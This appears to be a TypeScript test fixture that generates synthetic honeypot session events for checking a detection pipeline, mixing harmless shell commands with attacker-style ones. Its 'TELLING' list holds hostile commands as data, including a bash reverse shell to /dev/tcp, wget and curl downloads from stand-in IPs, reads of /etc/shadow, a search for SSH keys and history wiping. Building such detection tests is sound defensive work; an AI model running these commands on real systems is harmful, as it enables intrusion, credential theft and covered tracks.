// SPDX-License-Identifier: AGPL-3.0-or-later
import { encodeEnvelope, type Envelope } from '@ttp/ttp-core';
import type { Event } from '../harness/bus';
import type { Random } from '../harness/random';

export const SESSION_ENDED = 'attacker.session.ended';

/** Of the kind that rules fire on. */
const TELLING = [
  'uname -a',
  'cat /etc/passwd',
  'cat /etc/shadow',
  'ps aux',
  'ifconfig',
  'ip addr show',
  'wget http://198.51.100.8/i.sh',
  'curl -O http://203.0.113.9/x.bin',
  'bash -i >& /dev/tcp/192.0.2.40/4444 0>&1',
  'crontab /tmp/.c',
  'sudo -l',
  'history -c',
  'find / -name id_rsa',
  'chattr -i /etc/passwd',
  'useradd -m svcx',
  'tar czf /tmp/o.tgz /home',
] as const;

/** Of the kind that no rule fires on. */
const HARMLESS = ['cd src', 'echo ok', 'exit', 'clear', 'mkdir build', 'man ls', 'vim notes.txt', 'sleep 1', 'git status', 'less notes.txt'] as const;

const SERVICES = ['ssh', 'telnet'] as const;
const DECKIES = ['web-1', 'db-1', 'mail-1'] as const;
const NETWORKS = ['192.0.2.', '198.51.100.', '203.0.113.'] as const;

const COMMANDS = { least: 4, most: 12 } as const;
const HARMLESS_SESSIONS = 0.2;
const TELLING_COMMANDS = 0.6;
/** 2026-01-05 10:00 UTC. */
const FIRST_END_S = 1_767_607_200;

/** What a collector publishes when sessions end: some 760 attackers, a fifth of the sessions without any technique. */
export const makeSessions = (count: number, random: Random): Envelope[] => Array.from({ length: count }, (_, i) => makeSession(i, random));

export const asEvent = (envelope: Envelope): Event => ({ msgId: envelope.id, subject: envelope.topic, data: encodeEnvelope(envelope) });

function makeSession(i: number, random: Random): Envelope {
  const sessionId = `storm-${i}`;
  const service = random.pick(SERVICES);
  const decky = random.pick(DECKIES);
  const endedAt = FIRST_END_S + i;
  const commands = makeCommands(random).map((text, n) => ({ id: `${sessionId}#${n}`, command_text: text, ts: isoTime(endedAt), decky, service }));
  return {
    v: 1,
    id: i.toString(16).padStart(32, '0'),
    topic: SESSION_ENDED,
    type: 'session.ended',
    ts: endedAt,
    payload: { session_id: sessionId, attacker_uuid: null, attacker_ip: address(random), decky_id: decky, service, ended_at: isoTime(endedAt), duration_s: 60, commands, shard_path: null },
  };
}

function makeCommands(random: Random): string[] {
  const telling = random.chance(HARMLESS_SESSIONS) ? 0 : TELLING_COMMANDS;
  return Array.from({ length: random.int(COMMANDS.least, COMMANDS.most) }, () => (random.chance(telling) ? random.pick(TELLING) : random.pick(HARMLESS)));
}

const address = (random: Random): string => `${random.pick(NETWORKS)}${random.int(1, 254)}`;
const isoTime = (seconds: number): string => new Date(seconds * 1_000).toISOString();
